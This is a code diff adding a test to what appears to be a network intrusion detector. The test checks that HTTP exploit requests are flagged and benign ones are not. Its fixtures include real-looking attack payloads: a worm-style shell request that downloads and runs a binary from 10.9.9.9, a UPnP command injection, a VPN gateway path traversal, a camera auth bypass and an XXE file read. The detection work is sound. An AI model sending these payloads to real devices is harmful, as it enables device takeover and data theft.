@@ -165,3 +165,31 @@ test('credentials that are no base64 name nobody', () => {
   const odd = encodeGet('plc', '/', { Authorization: 'Basic YWRtaW46YWR1Y=' })
   assert.deepEqual(kinds(stream([wrong, true], [odd, true], [ok, false], [ok, false]), 'session'), [])
 })
+
+test('requests of worms and of known holes are told, and those of every day are not', () => {
+  const attacks = (request: string) =>
+    (stream([ascii(request), true]) as readonly Fact[]).flatMap((fact) =>
+      fact.kind === 'anomaly' && fact.what === 'http-exploit'
+        ? [fact.detail?.replace(/(?: in |:).*/, '')]
+        : [],
+    )
+  const get = (target: string) => attacks(`GET ${target} HTTP/1.1\r\nHost: a\r\n\r\n`)
+  const post = (target: string, body: string) =>
+    attacks(`POST ${target} HTTP/1.1\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n${body}`)
+  const fetched = ['program fetched and run']
+  assert.deepEqual(get('/shell?cd+/tmp;wget+http://10.9.9.9/mozi.a;chmod+777+mozi.a'), fetched)
+  assert.deepEqual(
+    post('/picdesc.xml', '<NewInternalClient>`cd /tmp; wget http://10.9.9.9/m; sh m`</NewInternalClient>'),
+    fetched,
+  )
+  assert.deepEqual(get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'), [
+    'hole of a camera, router or VPN gateway',
+  ])
+  assert.deepEqual(get('/onvif-http/snapshot?auth=YWRtaW46MTEK'), ['hole of a camera, router or VPN gateway'])
+  assert.deepEqual(post('/api', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'), [
+    'entity that reads files (XXE)',
+  ])
+  assert.deepEqual(post('/log', 'java.lang.RuntimeException: no route at com.example.Pump'), [])
+  assert.deepEqual(get('/download/wget-1.21.tar.gz?from=curl'), [])
+  assert.deepEqual(get('/onvif-http/snapshot?channel=1'), [])
+})
